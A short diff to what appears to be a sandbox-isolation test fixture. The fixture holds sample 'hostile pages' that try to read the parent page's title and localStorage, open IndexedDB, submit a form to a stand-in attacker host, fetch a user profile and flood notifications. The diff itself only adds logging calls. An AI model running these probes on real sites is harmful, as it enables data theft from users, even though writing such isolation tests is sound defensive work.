@@ -74,6 +74,7 @@ export const hostilePages: Readonly<Record<string, string>> = {
       "indexedDB.open('a').onsuccess = () => got('a database');",
       "got(parent.document.title || 'the page');",
       "got(parent.localStorage.length + ' entries');",
+      "list('tried');",
     ),
   ),
   windows: hostilePage(
@@ -94,6 +95,7 @@ export const hostilePages: Readonly<Record<string, string>> = {
       "const form = document.createElement('form'); form.action = evil + '/form'; document.body.append(form); form.submit();",
       "new RTCPeerConnection(); got('WebRTC');",
       "fetch('/api/v4/profile').then((answer) => answer.ok && got('the profile'));",
+      "list('tried');",
     ),
   ),
   flood: hostilePage("for (let count = 0; count < 10000; count += 1) notify('ui/notifications/size-changed', { height: count });"),
